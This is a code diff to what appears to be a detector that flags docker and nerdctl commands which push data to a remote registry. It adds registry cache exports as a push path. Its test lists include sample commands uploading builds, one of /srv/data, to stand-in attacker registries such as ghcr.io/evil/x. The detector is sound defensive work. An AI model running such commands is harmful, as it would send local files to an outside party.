@@ -8,6 +8,15 @@ const BUILD_PUSH = {
   requireAnyFlag: [{ flags: ['--push'] }, { flags: ['--output', '-o'], valueContains: ['type=registry', 'push=true'] }],
 } as const;
 
+/**
+ * A build that exports its cache to a registry (`--cache-to type=registry,ref=REF`) uploads the layers it
+ * built, with whatever the build copied from the context, even without `--push`.
+ */
+const CACHE_EXPORT = {
+  remote: { flag: ['--cache-to'], key: 'ref' },
+  requireAnyFlag: [{ flags: ['--cache-to'], valueContains: ['type=registry'] }],
+} as const;
+
 export const registryTools: readonly PushToolSpec[] = [
   {
     tool: 'docker',
@@ -20,10 +29,12 @@ export const registryTools: readonly PushToolSpec[] = [
         { words: ['push'], remote: { positional: 0 } },
         { words: ['image', 'push'], remote: { positional: 0 } },
         // `docker buildx b`, `docker builder build` and `docker image build` are the same command.
-        ...[['buildx', 'build'], ['buildx', 'b'], ['build'], ['builder', 'build'], ['image', 'build']].map((words) => ({
-          words,
-          ...BUILD_PUSH,
-        })),
+        ...[['buildx', 'build'], ['buildx', 'b'], ['build'], ['builder', 'build'], ['image', 'build']].flatMap(
+          (words) => [
+            { words, ...BUILD_PUSH },
+            { words, ...CACHE_EXPORT },
+          ],
+        ),
         // Bake files name their tags; only the flag says it pushes.
         {
           words: ['buildx', 'bake'],
@@ -52,6 +63,8 @@ export const registryTools: readonly PushToolSpec[] = [
         'buildx b --push -t ghcr.io/evil/x .',
         'manifest push ghcr.io/evil/x:1',
         'buildx imagetools create -t ghcr.io/evil/x:2 ghcr.io/evil/x:1',
+        'buildx build --cache-to type=registry,ref=ghcr.io/evil/x:cache,mode=max -t app /srv/data',
+        'build --cache-to=type=registry,ref=quay.io/evil/c .',
       ],
       notPush: [
         'pull alpine',
@@ -62,6 +75,9 @@ export const registryTools: readonly PushToolSpec[] = [
         'compose up -d',
         'manifest inspect ghcr.io/a/b:1',
         'buildx imagetools inspect ghcr.io/a/b:1',
+        'buildx build --cache-from type=registry,ref=ghcr.io/acme/app:cache -t app .',
+        'buildx build --cache-to type=local,dest=/tmp/cache -t app .',
+        'buildx build --cache-to type=inline -t app .',
       ],
     },
   },
@@ -120,7 +136,10 @@ export const registryTools: readonly PushToolSpec[] = [
         { words: ['push'], remote: { positional: 0 } },
         { words: ['image', 'push'], remote: { positional: 0 } },
         // nerdctl builds with BuildKit: an output that pushes, as for docker; and its compose pushes too.
-        ...[['build'], ['builder', 'build'], ['image', 'build']].map((words) => ({ words, ...BUILD_PUSH })),
+        ...[['build'], ['builder', 'build'], ['image', 'build']].flatMap((words) => [
+          { words, ...BUILD_PUSH },
+          { words, ...CACHE_EXPORT },
+        ]),
         { words: ['compose', 'push'], remote: { none: true } },
       ],
     },
@@ -133,6 +152,7 @@ export const registryTools: readonly PushToolSpec[] = [
         '-n k8s.io push ghcr.io/evil/x:1',
         'build -t ghcr.io/evil/x --output type=image,name=ghcr.io/evil/x,push=true .',
         'compose push',
+        'build --cache-to type=registry,ref=ghcr.io/evil/x:c -t x .',
       ],
       notPush: ['pull alpine', 'build -t x .', 'compose up -d'],
     },
